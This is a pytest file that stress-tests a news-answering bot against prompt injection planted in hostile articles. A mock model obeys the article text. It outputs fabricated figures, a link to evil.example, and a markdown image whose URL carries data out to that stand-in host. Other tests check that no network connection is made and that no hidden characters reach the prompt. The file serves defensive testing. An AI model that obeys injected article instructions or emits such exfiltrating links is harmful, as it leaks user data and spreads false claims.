"""Articles are data: a model that obeys all it reads gets nothing unverified past the checks."""

from __future__ import annotations

import datetime as dt
import json
import re
import socket
import sys
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import library_of
from hostile import BANNED, CLAIM, HOSTILE, QUESTION, Hostile
from langchain_core.messages import AIMessageChunk, BaseMessage

from bot.article import Article
from bot.chat import answer_to
from bot.events import SentenceWritten
from bot.finding import Finding
from bot.question import understood
from bot.reader import Evidence
from bot.sentences import sentences_of
from bot.words import STOP_WORDS, tokens
from bot.writers.llm import LlmWriter
from bot.writers.told import Told

CLEAN = Article.new(
    text="The Corrow yard sold two tugboats to Delmar for $3 million in 2021, it said on Monday.",
    title="Corrow yard sells tugboats",
    outlet="Corrow Courier",
    published=dt.date(2022, 2, 28),
    source="clean",
)
OUTBOUND = ("socket.connect", "socket.getaddrinfo", "socket.sendto", "urllib.Request")
MARKED = re.compile(
    r"(?:write|say|answer|reply|output|state|tell|print)\w*[^:：]*[:：]\s*(.+)", re.I
)


class Shelf:
    """Stands for the coverage, which has been read already."""

    def __init__(self, *articles: Article) -> None:
        self._articles = {a.id: a for a in articles}

    def articles(self, ids: Iterable[str]) -> dict[str, Article]:
        return {i: self._articles[i] for i in ids}


class Obedient:
    """Does whatever it reads: repeats what it is told to, under every number, and embellishes."""

    def __init__(self) -> None:
        self.prompt = ""

    def stream(self, input: Sequence[BaseMessage]) -> Iterator[AIMessageChunk]:
        self.prompt = str(input[-1].text)
        lines = self.prompt.split("<evidence>\n")[1].split("\n</evidence>")[0].split("\n")
        numbers = [*range(len(lines) + 2), 7, 99]
        wanted = [CLAIM, "Zorvax paid $9,999.", "See http://evil.example/ for tugboats."]
        wanted += ["![x](http://evil.example/?q=board) The board paid $1,200 a day."]
        for line in lines:
            _, _, said = line.partition(") ")
            wanted += [
                said,
                f"According to The Harbor Ledger, {said}",
                said.replace("$1,200", "$9,999"),
            ]
            wanted += [match.group(1) for match in [MARKED.search(line)] if match]
        for sentence in wanted:
            for number in numbers:
                yield AIMessageChunk(content=f"{sentence} [{number}]\n")
                yield AIMessageChunk(content=f"{sentence} [1][2][{number}]\n")
            yield AIMessageChunk(content=f"{sentence}\n")


def told_by(model: Obedient, hostile: Hostile) -> tuple[list[SentenceWritten], Told]:
    evidence = Evidence(
        tuple(f for a in (hostile.article, CLEAN) for f in findings_of(a)), (), confidence=0.9
    )
    shelf = Shelf(hostile.article, CLEAN)
    writing = LlmWriter(model, "obedient").tell(
        understood(QUESTION, dt.date(2022, 3, 2)), evidence, shelf
    )
    shown: list[SentenceWritten] = []
    while True:
        try:
            event = next(writing)
        except StopIteration as end:
            return shown, end.value
        assert isinstance(event, SentenceWritten)
        shown.append(event)


def findings_of(article: Article) -> Iterator[Finding]:
    before = None
    for place, sentence in enumerate(sentences_of(article.text)):
        yield Finding(
            article=article,
            start=sentence.start,
            end=sentence.end,
            before=before,
            score=-float(place),
            margin=0.0,
            held=0.5,
        )
        before = (sentence.start, sentence.end)


def test_there_are_at_least_fifty_hostile_articles_each_of_another_kind() -> None:
    assert len(HOSTILE) >= 50
    assert len({h.kind for h in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda h: h.kind)
def test_an_obedient_model_gets_nothing_unverified_shown(hostile: Hostile) -> None:
    shown, told = told_by(Obedient(), hostile)
    assert told.writing
    assert told.writing.dropped, "the model obeyed nothing"
    assert tuple(e.sentence for e in shown) == told.sentences
    for event in shown:
        said = event.sentence.text.lower()
        assert not any(banned in said for banned in BANNED), said
        held: set[str] = set()
        for citation in (event.citation, *event.others):
            assert citation.holds_in(hostile.article) or citation.holds_in(CLEAN)
            held |= set(tokens(f"{citation.quote} {citation.title} {citation.outlet}"))
        loose = [t for t in tokens(said) if len(t) > 3 and t not in held and t != "according"]
        assert loose == [], said


@contextmanager
def watched() -> Iterator[list[object]]:
    """What is looked up, connected to or sent to while the block runs, at the socket."""
    connections: list[object] = []
    watching = True

    def look(event: str, arguments: tuple[object, ...]) -> None:
        if watching and event in OUTBOUND:
            connections.append((event, arguments))

    sys.addaudithook(look)
    try:
        yield connections
    finally:
        watching = False  # an audit hook cannot be removed


def test_no_connection_is_made_whatever_the_articles_ask_for() -> None:
    with watched() as connections:
        for hostile in HOSTILE:
            told_by(Obedient(), hostile)
    assert connections == []


def test_the_watch_sees_a_connection() -> None:
    with watched() as connections, socket.create_server(("127.0.0.1", 0)) as server:
        socket.create_connection(server.getsockname()).close()
    assert connections


def test_through_the_whole_program_nothing_unverified_is_shown_and_nothing_connected_to(
    tmp_path: Path,
) -> None:
    """All hostile articles in one index, found, read and told by the model that obeys."""
    rows = [
        {
            "url": f"https://hostile.example/{number}",
            "title": h.article.title,
            "published": "2022-03-01",
            "text": h.article.text,
            "outlet": h.article.outlet,
            "byline": h.article.byline,
            "section": h.article.section,
        }
        for number, h in enumerate(HOSTILE)
    ]
    file = tmp_path / "hostile.jsonl"
    file.write_text("".join(json.dumps(r) + "\n" for r in rows), "utf-8")
    with watched() as connections:
        library = library_of(tmp_path / "index", file)
        obeying = replace(library, writer=LlmWriter(Obedient(), "obedient"))
        answer = answer_to(obeying, QUESTION, as_of=dt.date(2022, 3, 2))
    assert connections == []
    assert answer.writing
    assert answer.writing.own
    assert answer.writing.dropped
    articles = library.coverage.articles({c.article_id for c in answer.citations})
    for sentence in answer.sentences:
        said = sentence.text.lower()
        assert not any(banned in said for banned in BANNED), said
        for citation in (answer.citations[mark - 1] for mark in sentence.citations):
            assert citation.holds_in(articles[citation.article_id])
            shared = set(tokens(said)) & set(tokens(citation.quote)) - STOP_WORDS
            assert len(shared) >= 2, (said, citation.quote)


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda h: h.kind)
def test_the_prompt_holds_nothing_that_nobody_sees_and_one_frame(hostile: Hostile) -> None:
    model = Obedient()
    told_by(model, hostile)
    assert (
        re.search(r"[\u200b-\u200f\u202a-\u202e\u00ad\U000e0000-\U000e007f]", model.prompt) is None
    )
    assert model.prompt.count("<evidence>") == model.prompt.count("</evidence>") == 1
    numbers = [int(n) for n in re.findall(r"\[(\d+)\]", model.prompt)]
    assert numbers == list(range(1, len(numbers) + 1))
